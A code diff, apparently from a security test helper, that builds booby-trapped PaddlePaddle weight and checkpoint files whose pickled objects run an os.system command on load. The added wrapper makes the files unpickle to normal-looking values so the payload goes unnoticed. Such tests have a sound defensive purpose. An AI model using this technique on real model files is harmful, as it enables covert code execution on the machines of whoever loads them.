@@ -9,6 +9,7 @@ The payload sits where the old loaders never looked: inside the name table that
 from __future__ import annotations
 
 import io
+import operator
 import os
 import pickle
 import shlex
@@ -31,20 +32,32 @@ class Payload:
         return (os.system, (self.command,))
 
 
+class Then:
+    """Unpickles as ``value`` after running ``first``: ``itemgetter(1)((first, value))``."""
+
+    def __init__(self, first: Any, value: Any) -> None:
+        self.first, self.value = first, value
+
+    def __reduce__(self) -> tuple[Any, tuple[Any]]:
+        return (operator.itemgetter(1), ((self.first, self.value),))
+
+
 def numpy_state(model: Any) -> dict[str, np.ndarray]:
     return {k: v.numpy() for k, v in model.state_dict().items()}
 
 
 def evil_paddle_weights(path: Path, marker: Path, state: dict[str, np.ndarray]) -> Path:
     """A ``.pdparams`` that ``paddle.load`` reads as ``state`` after running the payload."""
-    obj = {**state, "StructuredToParameterName@@": {"x": Payload(marker)}}
+    table = Then(Payload(marker), {k: k for k in state})  # the name table paddle.load drops
+    obj = {**state, "StructuredToParameterName@@": table}
     path.write_bytes(pickle.dumps(obj, protocol=4))
     return path
 
 
 def evil_checkpoint(path: Path, marker: Path, checkpoint: dict[str, Any]) -> Path:
     """A resumable ``last.pdckpt`` (``checkpoint`` as read back) with one key carrying a payload."""
-    path.write_bytes(pickle.dumps({**checkpoint, "notes": Payload(marker)}, protocol=4))
+    notes = Then(Payload(marker), "resumable")
+    path.write_bytes(pickle.dumps({**checkpoint, "notes": notes}, protocol=4))
     return path
 
 
